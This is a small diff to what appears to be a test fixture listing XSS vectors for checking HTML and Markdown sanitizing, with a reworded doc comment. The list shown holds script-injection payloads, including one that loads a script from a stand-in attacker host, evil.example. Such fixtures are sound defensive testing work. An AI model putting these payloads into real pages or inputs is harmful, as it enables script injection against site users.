@@ -1,4 +1,7 @@
-/** Texts that ran as scripts somewhere: in careless HTML, in careless Markdown, or in one that was cleaned badly. Each sets `window.ran`. */
+/**
+ * Texts that have run as scripts elsewhere: in careless HTML, in careless Markdown, or after faulty sanitizing. Each
+ * sets `window.ran`.
+ */
 export const XSS_VECTORS: readonly string[] = [
   '<script>ran=1</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
